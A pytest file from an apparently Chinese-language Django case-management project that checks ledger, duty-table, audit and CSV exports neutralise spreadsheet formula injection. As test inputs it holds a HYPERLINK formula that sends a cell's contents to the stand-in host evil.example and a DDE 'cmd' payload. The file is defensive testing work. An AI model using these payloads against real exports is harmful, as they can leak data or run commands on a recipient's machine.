"""No export lets a spreadsheet run a formula typed into a name or a text
(=, +, -, @): every workbook goes through documents.xlsx (safe_cell), every CSV writer too."""

import io
import re
from pathlib import Path

from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from audit.choices import EventKind
from audit.models import AuditEvent
from audit.services import audit_record
from cases.models import Case, Visitor

BASE = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|tablib\.Dataset\(|\.export\(")
# Where a writer may be made: the one safe workbook writer, readers, and writers whose every
# cell goes through safe_cell (checked by the tests below).
ALLOWED = {
    "documents/xlsx.py": "the safe writer",
    "members/services.py": "tablib.Dataset feeds the roster import (a reader)",
    "receptions/management/commands/plan_receptions.py": "cells through safe_cell",
    "scoring/management/commands/quota_status.py": "cells through safe_cell",
    "scoring/exports.py": "the 数字政协 CSV: every text cell through safe_cell (_text)",
}


def test_every_spreadsheet_or_csv_writer_in_the_product_is_a_known_safe_one():
    found = set()
    for path in BASE.rglob("*.py"):
        rel = path.relative_to(BASE).as_posix()
        if rel.split("/")[0] in {".venv", "tests", "bench"} or "/migrations/" in rel:
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            found.add(rel)
    assert found - set(ALLOWED) == set(), "新的导出请用 documents.xlsx.workbook_bytes / safe_cell"


def cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(data: bytes, *texts):
    every = cells(data)
    assert not [c.coordinate for c in every if c.data_type == "f"]
    values = [str(c.value) for c in every if c.value is not None]
    for text in texts:
        assert f"'{text}" in values, text


def test_the_ledger_export_neutralises_formulas_in_visitors_and_cases(client, visitors):
    Visitor.objects.filter(pk=visitors.visitor.pk).update(name="@SUM(1+1)")
    Case.objects.filter(pk=visitors.case.pk).update(content=HOSTILE, community="-2+3")
    client.force_login(visitors.p.beijing_clerk)
    response = client.get(reverse("cases:ledger", args=[visitors.p.beijing_room.pk]),
                          {"format": "xlsx"})
    assert_no_formula(response.content, "@SUM(1+1)", HOSTILE, "-2+3")


def test_the_duty_table_export_neutralises_a_member_named_as_a_formula(client, personas):
    personas.member.name = "+cmd|'/c calc'!A1"
    personas.member.save()
    client.force_login(personas.city)
    response = client.get(reverse("scoring:table"), {"export": "xlsx", "year": 2026})
    assert_no_formula(response.content, "+cmd|'/c calc'!A1")
    assert AuditEvent.objects.filter(kind=EventKind.EXPORT, detail__name="duty-2026.xlsx").exists()


def test_the_audit_export_neutralises_a_username_typed_at_the_login(client, personas):
    audit_record(kind=EventKind.LOGIN_FAILED, username=HOSTILE[:150])
    client.force_login(personas.auditor)
    response = client.get(reverse("audit:events_export"))
    assert_no_formula(response.content, HOSTILE)


def test_the_command_csvs_neutralise_names(personas, capsys):
    personas.beijing_room.name = "=1+1工作室"
    personas.beijing_room.save()
    personas.member.name = "=2+2"
    personas.member.save()
    call_command("plan_receptions", year=2026, district="越秀区")
    call_command("quota_status", year=2026)
    out = capsys.readouterr().out
    assert "'=1+1工作室" in out and "'=2+2" in out
    assert not re.search(r"(^|,)=", out, flags=re.MULTILINE)
